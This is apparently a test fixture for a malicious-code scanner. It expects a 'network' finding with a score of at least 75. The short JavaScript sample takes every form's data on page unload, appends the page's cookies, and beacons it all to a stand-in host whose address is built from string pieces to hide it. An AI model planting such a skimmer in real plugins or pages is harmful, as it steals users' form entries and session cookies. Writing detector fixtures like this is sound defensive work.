// expect: category=network min=75 context=plugin,package
// why: every form's FormData is sent with sendBeacon to a foreign origin as the page unloads.
const dest = ['https://', 'metrics', '.example', '/b'].join('');

window.addEventListener('pagehide', () => {
  for (const form of document.forms) {
    const data = new FormData(form);
    data.append('cookie', document.cookie);
    navigator.sendBeacon(dest, data);
  }
});
